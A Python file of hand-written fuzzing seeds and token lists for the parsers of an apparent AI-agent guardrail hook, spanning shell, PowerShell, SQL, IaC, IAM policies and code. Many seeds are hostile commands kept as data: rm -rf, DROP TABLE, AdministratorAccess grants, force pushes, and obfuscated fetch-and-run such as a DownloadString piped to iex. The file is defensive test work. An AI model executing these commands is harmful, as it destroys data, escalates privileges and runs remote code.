"""Sound inputs of every parser, written by hand, and the words of its language."""

from __future__ import annotations

KIRO = (
    """{"guardrails": {"deny": {"actions": ["grant_admin_access", "iam:Create*"], "resources": ["arn:aws:s3:::*-production"],
     "files": [".github/{a,b}/**/[a-c]?.yml"], "commands": ["git push --force"], "patterns": ["KEY", {"regex": "a+(b|c)",
     "id": "x", "reason": "y", "stages": ["task"], "except": ["tests/**"]}]}, "requireApproval": {"files": ["**/Dockerfile"]},
     "permissions": {"expansion": "deny"}, "production": {"names": ["prod"], "accounts": ["123456789012"]}, "mode": "shadow",
     "approvals": {"required": 2, "expiresAfter": "24h", "approvers": [{"id": "a", "github": "b"}]}}}""",
    """{"guardrails": {"origin": "payments", "secrets": "deny", "extends": [], "practice": {}, "credentials": []}, "o": [1.5e3]}""",
)
KIRO_WORDS = r"""{ } [ ] , : \x20 " "deny": "files": "patterns": "match": "regex": "except": "stages": {"match":"a"} null true 1e5
    "a" "arn:aws:s3:::a" {a,b} ** [a-z] \\\\ \\" // /* # "guardrails": "actions": "iam:*" \n"""
TOOL = (
    """{"hook_event_name": "preToolUse", "cwd": ".", "tool_name": "fs_write", "tool_input": {"command": "str_replace",
     "path": "there.txt", "old_str": "two", "new_str": "2"}}""",
    """{"hook_event_name": "PreToolUse", "tool_name": "execute_bash", "tool_input": {"command": "rm -rf x && aws s3 ls"}}""",
    """{"hook_event_name": "PreToolUse", "permission_mode": "default", "tool_name": "MultiEdit", "tool_input":
     {"file_path": "a/b.py", "edits": [{"old_string": "a", "new_string": "b"}, {"old_string": "", "new_string": "c"}]}}""",
    """{"hook_event_name": "preToolUse", "tool_name": "use_aws", "tool_input": {"service_name": "iam", "operation_name":
     "attach-user-policy", "parameters": {"user-name": "x", "policy-arn": "arn:aws:iam::aws:policy/AdministratorAccess"}}}""",
    """{"hook_event_name": "preToolUse", "tool_name": "@git/push", "tool_input": {"a": [1, null, {"b": "DROP TABLE x"}]}}""",
    """{"hook_event_name": "preToolUse", "tool_name": "fs_write", "tool_input": {"command": "insert", "path": "x",
     "insert_line": 3, "new_str": "y"}}""",
)
TOOL_WORDS = r"""{ } [ ] , : " "path": "command": "create" "insert" "insert_line": "file_text": "tool_input": "tool_name": "cwd": "a\\\\u0000b"
    "\\\\ud800" "../../x" "~/.ssh" "there.txt" null true -1 1e9 {"a":"b"} "edits": "@a/b" "mcp__a__b" "fs_write" "Edit" "Bash" """
PATCH = (
    """diff --git a/there.txt b/there.txt
index 1111111..2222222 100644
--- a/there.txt
+++ b/there.txt
@@ -1,3 +1,3 @@ head
 one
-two
+2
 three
\\ No newline at end of file
diff --git a/old.py b/new/é.py
similarity index 90%
rename from old.py
rename to new/é.py
old mode 100644
new mode 100755
""",
    """--- /dev/null
+++ b/x
@@ -0,0 +1,2 @@
+a
+b
diff --git a/i.png b/i.png
GIT binary patch
literal 3
Kc$@&M0ssI2

""",
)
PATCH_WORDS = r"""diff\x20--git\x20 a/ b/ ---\x20 +++\x20 @@ @@\x20-1,3\x20+1,3\x20@@\n \n+ \n- \n\x20 \\\\\x20No\x20newline\n index\x20 /dev/null
    rename\x20from\x20 rename\x20to\x20 mode\x20 Binary\x20files\x20 ../ "\\303\\251" \r\n 99999999 -0,0 +0,0 \x85 \t similarity\x20index\x20 """
SHELL = (
    """set -e; A=(1 2); export B="x $HOME" C=${D:-e}; f() { local x=$1; rm -rf "$x"; }; f a | sh -c 'git push -f' > out 2>&1
for i in a b{1..3}; do if [ -f "$i" ]; then cat <<EOF | tee "$i"; fi; done
$(date) `id` ${B^^}
EOF
case $1 in a|b) aws iam attach-user-policy --policy-arn arn:aws:iam::aws:policy/AdministratorAccess ;; *) eval "$X" ;; esac
""",
    """sudo -u x env A=b timeout 5 xargs -n1 rm <<< "a b"; find . -name '*.py' -exec rm {} \\; ; ssh h "cd /x && ls"; . ./x.sh
while read -r l; do printf '%s\\n' "$l" | base64 -d; done < <(cat x); alias g='git -C x'; trap 'rm y' EXIT; g push +main $((1+2))
""",
    "docker run -v a:b img sh -c \"psql -c 'DROP TABLE x'\" & echo $'a\\x41\\u00e9' | tr a-z A-Z | xxd -r -p; [[ $a =~ ^b ]] && ./x.sh",
    """a=(rm -f x); a+=([k]=v); "${a[@]:1}"; c=x_y; ${c//_/z} ${c:1:2} ${c@U} ${!c}; IFS=,; $c; echo "rm x" > s; printf y >> s; sh s
cp /bin/rm t; ./t a; cat /bin/ls | base64 > b; hash -p /bin/rm q; q; tee f <<< 'a'; mv f g; . ./g; exec 3<<< x; bash <&3; r\\
m x 2>&1 y; git -c alias.a='!rm x' a; xargs -0 -a f rm; docker -H u run -v a:b i rm x; parallel rm ::: a; env 'BASH_FUNC_f%%=() { rm; }' f
""",
    """python3 -c 'import os,base64; d={"a":"rm x"}; os.system(d["a"]+"".join(map(chr,[114])));exec(base64.b64decode("cHJpbnQ="))' a
perl -e 'open(F,"|-","sh"); system join(" ",@ARGV); eval "qx(rm x)"'; awk -v c=x 'BEGIN{print "rm x" | "sh"; "ls" | getline y; system(c)}'
node -e 'const {execSync:x}=require("child_process"); x(`rm ${1}`)'; sed 's/.*/rm x/e;1e ls' f; vim -es -c '!rm x'
""",
)
POWERSHELL = (
    """param([string]$Name = 'x', [switch]$Force)
$ErrorActionPreference = 'Stop'
foreach ($f in Get-ChildItem -Path ./build -Filter *.tmp -Recurse) { Remove-Item $f.FullName -Force:$Force }
if (Test-Path "$PSScriptRoot\\x") { rm x -r } elseif ($a -eq 1) { Write-Host "a `"b`" $(Get-Date)" } else { exit 1 }
function Invoke-It { [CmdletBinding()] param($A, $B = 2) process { & $A @args } }
$h = @{ Path = 'a'; Recurse = $true }; Remove-Item @h
try { Set-Content x -Value @"
one $Name
"@ } catch [IO.IOException] { throw } finally { pop-location }
1..3 | ForEach-Object { "x$_" } | Where-Object { $_ -like 'x*' } | Out-File -Append y.txt 2>&1
switch ($x) { 'a' { b } default { c } }
""",
    r"""iex ([Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('cgBtACAAeAA='))); & ('{1}{0}' -f 'm','r') x
-join ([char[]](114, 109)) | % { & $_ x }; $x = 'Remove' + '-Item'; . $x y; (New-Object Net.WebClient).DownloadString('http://a') | iex
aws s3 rm s3://a --recursive && New-IAMUser -UserName b || git push -f; pwsh -NoP -enc cgBtACAAeAA= --% a;b
class A { [string] $n; [void] Go([int] $i) { rm $i } }; [A]::new().Go(1); $x?.y ?? $z; $a ? 1 : 2; "a,b".Split(',')[0].Replace('a', 'rm')
""",
)
POWERSHELL_WORDS = r"""$( @( ( ) { } [ ] ' " ` $a $_ ${a} $env:A @a @{ a= ; , | || && & . :: . ? ?? ?. ?[ - -- --% -f\x20 -join\x20 -replace\x20 -split\x20 .. + * % ! = += > >> 2>&1 <
    @"\n \n"@ @'\n \n'@ # <# #> `\n \n if( else{ foreach($a\x20in\x20 while( do{ switch( try{ catch{ function\x20a{ param( class\x20A{ [char] [string] [int] [scriptblock]::Create(
    iex\x20 rm\x20 %{ ?{ .Replace( .Invoke() -Recurse\x20 -Path: \x20 a 1 0x1 1kb 1..9 pwsh\x20-c\x20 -enc\x20 Invoke-Expression\x20 Get-Content\x20 New-IAMUser\x20 Set-Alias\x20 ./x.ps1 \xe2\x80\x93 \xe2\x80\x9c"""
SHELL_WORDS = r"""$( ) ` ' " $(( )) ${ } { , .. {1..9} {a,b} ; & && | || > >> < << <<EOF <<- <<< \n \\\\\n for\x20i\x20in\x20 ;do\x20 ;done\x20 if\x20 then\x20
    fi\x20 case\x20x\x20in\x20 esac ;; a) while\x20 until\x20 f(){\x20 ;} a= a+= $a ${a} ${a:- ${a# "$@" $@ !\x20 [[ ]] eval\x20 sh\x20-c\x20 sudo\x20 xargs\x20 env\x20
    printf\x20%s\x20 echo\x20 cat\x20 base64\x20-d tr\x20a-z\x20b alias\x20a= find\x20.\x20-exec\x20 \x20{}\x20 git\x20push\x20 rm\x20-rf\x20 aws\x20s3\x20rm\x20 a\x20 \\\\ # ~ * ? set\x20--\x20
    ./x.sh <( >( /dev/null $'\\\\x00' export\x20 local\x20 function\x20a\x20 time\x20 coproc\x20 select\x20 trap\x20
    a=(\x20 "${a[@]}" ${a[1]} ${a//b/c} ${a:1:2} ${!a} IFS=,; >\x20s; >>\x20s sh\x20s cp\x20/bin/rm\x20 mv\x20s\x20t python3\x20-c\x20' os.system( perl\x20-e\x20' open( |getline
    awk\x20'{ node\x20-e\x20' require( sed\x20's/a/b/e make\x20 npm\x20run\x20 <&3 bash\x20-n\x20"""
HCL = (
    """variable "a" { default = "x" }
locals { b = { c = [for k, v in var.d : upper(k) if v], e = "${var.a}-${local.f}" } f = jsonencode({ "g" : 1 }) }
resource "aws_iam_policy" "p" {
  count  = var.n > 0 ? 1 : 0
  name   = format("%s-prod", local.b.e)
  policy = <<-EOT
    {"Statement": [{"Effect": "Allow", "Action": "*", "Resource": "${aws_s3_bucket.z.arn}/*"}]}
  EOT
  dynamic "tag" { for_each = toset(["a"]) content { key = tag.value } }
}
data "aws_iam_policy_document" "d" { statement { actions = ["s3:*"] resources = ["*"] } }
resource "aws_s3_bucket" "z" { bucket = "b-${local.f}" }
module "m" { source = "./m" x = [1, true, null, -2.5e3] }
# c
""",
)
HCL_WORDS = r"""resource\x20"a"\x20"b"\x20{ } locals\x20{ variable\x20"v"\x20{ module\x20"m"\x20{ \n = ${ %{if\x20 " <<E\n \nE\n local.a var.v a.b.c data.a.b.c [ ] ( ) { , : ? =>
    for\x20k\x20in\x20 \x20if\x20 ... [*] .*. jsonencode( format( join( merge( concat( flatten( lookup( file( templatefile( null true 1 -1 && || ! == "${ \\\\ \\\\" # // /* */ $${
    policy\x20=\x20 count\x20=\x20 for_each\x20=\x20 dynamic\x20"a"\x20{ content\x20{ statement\x20{ actions\x20=\x20 provisioner\x20"local-exec"\x20{ command\x20=\x20"""
CLOUD = (
    """AWSTemplateFormatVersion: '2010-09-09'
Parameters: {E: {Type: String, Default: prod}}
Conditions: {C: !Equals [!Ref E, prod]}
Resources:
  B: &b
    Type: AWS::S3::Bucket
    Condition: C
    Properties: {BucketName: !Sub '${E}-${R.Arn}', Tags: [{Key: a, Value: !If [C, x, y]}]}
  R:
    Type: AWS::IAM::Role
    Properties:
      RoleName: !Join ['-', [a, !Ref B]]
      Policies:
        - PolicyDocument: {Statement: [{Effect: Allow, Action: '*', Resource: !GetAtt B.Arn}]}
  D: *b
""",
    """{"AWSTemplateFormatVersion": "2010-09-09", "Resources": {"A": {"Type": "AWS::IAM::Policy", "Properties": {"PolicyDocument":
     {"Statement": {"Effect": "Allow", "NotAction": "iam:*", "Resource": {"Fn::Sub": "arn:aws:s3:::${B}"}}}}},
     "B": {"Type": "AWS::S3::Bucket", "Properties": {"BucketName": {"Ref": "A"}}}}}""",
)
CLOUD_WORDS = r"""Resources: \n\x20\x20 Type: AWS::S3::Bucket Properties: Statement Effect: &a *a !Ref\x20 !Sub\x20 !If !Join !GetAtt\x20 !Foo\x20 ? - : | > {{ }} [ ] { } , " ' # --- ...
    %YAML\x201.1 <<: !!binary\x20 !!set\x20 1_000 0x1F 2001-01-01 ~ yes Fn::Sub: Fn::ForEach::a: Fn::Not: ${A} ${!A} "Ref": "Fn::If": {"Ref":"A"} \t \n- \n\x20\x20-\x20 a:\x20"""
POLICY = (
    """{"Version": "2012-10-17", "Statement": [{"Sid": "a", "Effect": "Allow", "Action": ["s3:Get*", "iam:PassRole"],
     "Resource": ["arn:aws:s3:::a/*", "*"], "Condition": {"StringEquals": {"aws:x": ["y"]}}, "Principal": {"AWS": "*"}},
     {"Effect": "Deny", "NotAction": "s3:*", "NotResource": "arn:aws:s3:::b", "NotPrincipal": {"Service": ["x"]}}]}""",
    """{"Statement": {"Effect": "Allow", "Action": "s3:?et*", "Resource": "*"}}
=====
{"Statement": [{"Effect": "Allow", "Action": "*", "Resource": "arn:aws:s3:::${aws:username}"}]}""",
)
POLICY_WORDS = r"""{ } [ ] , : " "Statement": "Effect":"Allow" "Effect":"Deny" "Action": "NotAction": "Resource": "NotResource": "Condition": "Principal": "*" "s3:*"
    "s3:Get*" "a*b*c" *a ?a ** {"Effect":"Allow","Action":"s3:*","Resource":"*"} "Sid": null 1 \n=====\n "arn:aws:s3:::a*" "StringLike":{} "Fn::If": """
PROSE = (
    """# Plan

## Out of scope
- [ ] 1. Open port 22 in the production security group. THE SYSTEM SHALL NOT delete the `DROP TABLE` database!
  continued **bold** [link](http://x) | a | b |
| cell | delete the production database |

```bash
$ terraform destroy -auto-approve
```
> WHEN a, THEN the agent never, under any circumstances, attaches AdministratorAccess; but then grant admin access.
~~~
KEY=value &amp; more
""",
)
PROSE_WORDS = r"""# ##\x20 -\x20 *\x20 1.\x20 [ ] ( ) [a](b) ` `` ``` ~~~ ** __ | >\x20 \n \n\n .\x20 !\x20 ,\x20 ;\x20 not\x20 never\x20 shall\x20not\x20 delete\x20 drop\x20 open\x20 grant\x20
    database\x20 security\x20group\x20 port\x20 production\x20 administrator\x20access\x20 was\x20 is\x20 If\x20 WHEN\x20 THEN\x20 Out\x20of\x20scope &amp; &# run\x20`rm\x20x` A=b \x20\x20\x20\x20 \t bash\n"""
DOCKER = (
    """# escape=\\
FROM a AS b
ARG X=1
RUN --mount=type=cache apt-get update && \\
  # note
  rm -rf /var
CMD ["sh", "-c", "echo $X"]
RUN <<EOF
git push --force
EOF
HEALTHCHECK --interval=5s CMD curl x
ONBUILD RUN make
""",
)
DOCKER_WORDS = r"""RUN\x20 CMD\x20 ENTRYPOINT\x20 HEALTHCHECK\x20 ENV\x20A=b ARG\x20 --a=b\x20 \\\\\n [ ] " , <<EOF\n EOF\n \n # ` rm\x20-rf\x20 && ["a"] $X ${X} ONBUILD\x20 \x20"""
MAKE = (
    "X := a\nY = $(X) $(shell git push -f)\nall: b ; @rm -rf $(Y)\n\t-$(Y) $$HOME \\\n\t  more\n.RECIPEPREFIX = >\n>echo\n",
)
MAKE_WORDS = r"""$( ) $$ ${ } $(shell\x20 a: :: ; = := += ?= \n\t \\\\\n # @ - X $(X) ( \x20 .RECIPEPREFIX\x20=\x20 export\x20 define\x20a\n {{ }}"""
JOBS = (
    """on: push
env: {A: b}
jobs:
  x:
    steps:
      - run: |
          git push --force ${{ github.ref }} ${{ env.A }}
      - {uses: a, with: {script: "rm -rf x"}}
script: [a, [b, c]]
command: [rm, x]
args: ["-c", y]
""",
    "a: {{ template }}\nrun: x\nscript:\n- b\n- c\n",
)
JOBS_WORDS = r"""run:\x20 script:\x20 command:\x20 args:\x20 env:\x20 |\n\x20\x20 >\n\x20\x20 -\x20 [ ] { } , : " ' ${{ }} env.A \n \x20\x20 &a\x20 *a\x20 <<:\x20*a\x20 {{ ? ! # rm\x20x entrypoint:\x20 a:\x20"""
PACKAGE = ('{"scripts": {"test": "rm -rf x && npm run b", "b": ["c"]}, "tasks": {"d": {"command": "e"}}}',)
HOOKS = (
    '{"hooks": {"PreToolUse": [{"matcher": "*", "hooks": [{"type": "command", "command": "pykiro-opa-hook --root ."}]}]}}',
)
JSON_WORDS = r"""{ } [ ] , : " null true 1 "a" "hooks": "scripts": "command": "matcher": "enabled": {"a":"b"} \\\\ \n"""
LINES = ("web: run x\n[testenv]\ncommands =\n  a\n  b\nsh 'x'\nsh('''y''')\n* * * * * root rm x\nExecStart=/bin/y\n",)
LINES_WORDS = (
    r"""\n sh bat ( ) ' " ''' \"\"\" script: commands= \n\x20\x20 * @daily\x20 Exec= web: # , } $ a 1 \x20 \t [a]"""
)

SQL = (
    "DELETE FROM a WHERE b = 1;\nDROP TABLE IF EXISTS c, d CASCADE;\nWITH e AS (DELETE FROM f RETURNING *) SELECT * FROM e;\n",
    "DO $x$ BEGIN UPDATE a SET b = 'it''s'; END $x$;\nDELIMITER //\nCREATE PROCEDURE p() BEGIN TRUNCATE q; END//\n",
    "ALTER TABLE a DROP COLUMN b; GRANT ALL ON *.* TO 'c'@'%'; /*!50000 DROP DATABASE x */ -- y\nEXECUTE IMMEDIATE 'z'",
)
MIGRATION = (
    'def upgrade():\n    op.drop_table("x")\n    op.execute(f"""DELETE FROM {t}""")\n\ndef downgrade():\n    pass\n',
    "sql = 'DROP TABLE a'\ndb.query(`UPDATE b SET c = ${d}`)\nexecute(<<SQL)\n  TRUNCATE e\nSQL\n",
)
SQL_WORDS = (
    "SELECT DELETE FROM UPDATE SET WHERE DROP TABLE DATABASE TRUNCATE ALTER COLUMN GRANT REVOKE ON TO WITH AS MERGE INTO "
    "USING DO BEGIN END EXECUTE IMMEDIATE CREATE FUNCTION $$ $x$ ' \" ` [ ] ( ) ; -- /* */ /*! # \\n GO DELIMITER // "
    '{{ }} ${ } f""" op.drop_table( <<SQL = 1=1 , . EXPLAIN ANALYZE'
)
PYTHON = (
    (
        "import boto3 as b\nfrom functools import partial\nclass A(B):\n  c = b.client('iam')\n  @property\n  def d(self):\n"
        "    return b.resource('s3').Bucket('x')\n  def f(self, n='a', *r, **k):\n    self.c.create_user(UserName=f'p-{n}', **k)\n"
        "    for o in self.d.objects.all():\n      o.delete()\nx = {'a': [1, *y], **z}\ngetattr(A().c, '{}_{}'.format('create', 'user'))\n"
        "partial(b.client, 'ec2')().create_tags(Tags=[(1, 2)][::-1])\nasync def g():\n  async with h as (i, *j): await i\n"
    ),
    (
        "from aws_cdk import aws_iam as iam\niam.PolicyStatement(actions=['*'], resources=['%s' % x])\n"
        "iam.User(self, 'u', user_name='x').grant(y)\nmatch x:\n  case {'a': [b, *c]}: pass\nname += 'b' if q else 'c'\n"
    ),
    "import boto3\n\n=====\n\nimport boto3\nboto3.client('iam').get_paginator('list_users').paginate()\n",
)
PYTHON_WORDS = r"""import\x20boto3\n boto3. .client( resource( 'iam' 's3' getattr( (  ) [ ] { } : , . = += := + % * ** @ f'{x}' '%s' .format( .join( [::-1]
lambda\x20x: x for\x20x\x20in\x20 if\x20 else\x20 class\x20A(A):\n def\x20f(x):\n return\x20 yield\x20 await\x20 with\x20 as\x20 global\x20x\n self. \n \n\x20\x20 \x20 ' " \\\\
try:\n except:\n match\x20x:\n case\x20 del\x20 None 1 -1 x=x\n a+a+ f(f, functools.partial( aws_cdk. ...\n"""
JAVASCRIPT = (
    (
        "import AWS, { S3 as T } from 'aws-sdk';\nimport { IAMClient, CreateUserCommand as C } from '@aws-sdk/client-iam';\n"
        "class A extends B { iam = new AWS.IAM(); get c() { return this.iam } constructor(private d: IAMClient) { super(); this.e = d }\n"
        " async f(a = 1, {b, c: d, ...e}, [g,, h]) { await this.iam?.['create' + `U${s}er`]({ UserName: a, ...b }).promise() } }\n"
        "client.send(new C({ UserName: 'x\\u0041' }));\nconst { IAM: I } = require('aws-sdk'), q = (x) => x ?? y || z;\n"
        "for (const [k, v] of Object.entries({ a: [1, 2] })) k.v();\n['IAM'].forEach((n) => new AWS[n]());\n"
    ),
    (
        "import * as iam from 'aws-cdk-lib/aws-iam';\nnew iam.User(this, 'u', { userName: 'x' }).addToPolicy(\n"
        "new iam.PolicyStatement({ effect: iam.Effect.DENY, actions: ['*'] }));\nexport default <T,>(x: T) => <a b={c}>d</a>;\n"
    ),
    "// aws-sdk\n\n=====\n\n// aws-sdk\nlet x = await import('aws-sdk'); x.a.b = x[1] += 'c'; label: while (1) { break label }\n",
)
JAVASCRIPT_WORDS = r"""require('aws-sdk') new\x20 AWS. .IAM ( ) [ ] { } => => ; , . ?. : = += ?? || + ...  ` ${ } ' " \\\\ const\x20 let\x20 function\x20f(x)
class\x20A\x20 extends\x20 this. async\x20 await\x20 return\x20 yield\x20 for\x20(const\x20x\x20of\x20 import\x20 from\x20'aws-cdk-lib/aws-iam' {a}= <a> </a> as\x20any !.
x x=x; a+a+ f(f, \n \x20 /* // /x/ 1 null true @d # get\x20 static\x20 super() case\x20 default: {...x} <T> :\x20T"""
NOTEBOOK = (
    (
        '{"cells": [{"cell_type": "code", "source": ["import boto3\\n", "%pip x\\n", "boto3.client(\'iam\').create_user()"]},'
        ' {"cell_type": "code", "source": "!ls\\nx = (1"}, {"cell_type": "markdown", "source": []}], "nbformat": 4}'
    ),
)
